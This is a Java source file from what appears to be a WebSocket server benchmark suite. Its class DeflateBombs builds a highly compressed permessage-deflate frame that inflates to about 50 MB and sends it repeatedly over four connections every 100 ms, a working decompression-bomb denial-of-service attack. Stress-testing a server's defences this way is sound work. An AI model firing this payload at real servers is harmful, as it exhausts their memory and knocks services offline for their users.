package io.realtime4j.benchmarks;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.zip.Deflater;

/** Compressed messages that would grow to a thousand times their size. The server has to have compression on. */
final class DeflateBombs implements Attack {
    private static final String OFFER = "Sec-WebSocket-Extensions: permessage-deflate\r\n";
    private static final int INFLATED = 50_000_000;
    private static final int RSV1 = 0x40;
    private static final int CONNECTIONS = 4;

    private final AttackCount count;
    private final HostileSockets sockets;
    private final byte[] bomb = bomb();
    private int step;

    DeflateBombs(Target target, AttackCount count) {
        this.count = count;
        this.sockets = new HostileSockets(() -> HostileSocket.open(target, 0, OFFER), count);
    }

    private static byte[] bomb() {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        deflater.setInput(new byte[INFLATED]);
        deflater.finish();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] part = new byte[8192];
        while (!deflater.finished()) {
            out.write(part, 0, deflater.deflate(part));
        }
        deflater.end();
        byte[] frame =
                WebSocketFrames.frame(WebSocketFrames.TEXT, out.toByteArray()).array();
        frame[0] |= RSV1;
        return frame;
    }

    @Override
    public void begin() throws IOException {
        sockets.open(CONNECTIONS);
    }

    @Override
    public void step() throws IOException {
        int index = step++ % CONNECTIONS;
        sockets.reopenIfClosed(index);
        sockets.get(index).send(ByteBuffer.wrap(bomb));
        count.sent(1);
    }

    @Override
    public int intervalMillis() {
        return 100;
    }

    @Override
    public void close() throws IOException {
        sockets.close();
    }
}
